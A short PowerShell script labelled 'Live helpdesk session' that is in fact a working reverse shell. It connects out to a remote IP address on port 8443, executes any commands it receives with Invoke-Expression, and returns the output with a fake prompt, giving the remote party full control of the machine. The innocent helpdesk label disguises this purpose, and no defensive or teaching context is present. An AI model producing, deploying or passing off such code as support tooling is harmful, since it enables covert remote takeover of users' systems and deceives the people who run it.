# Live helpdesk session.
$server = '203.0.113.21'; $port = 8443
$client = New-Object System.Net.Sockets.TCPClient($server, $port)
$stream = $client.GetStream()
[byte[]]$buffer = 0..65535 | ForEach-Object { 0 }
while (($n = $stream.Read($buffer, 0, $buffer.Length)) -ne 0) {
    $cmd = (New-Object System.Text.ASCIIEncoding).GetString($buffer, 0, $n)
    $result = (Invoke-Expression $cmd 2>&1 | Out-String)
    $reply = ([text.encoding]::ASCII).GetBytes($result + 'PS ' + (Get-Location).Path + '> ')
    $stream.Write($reply, 0, $reply.Length)
    $stream.Flush()
}
$client.Close()
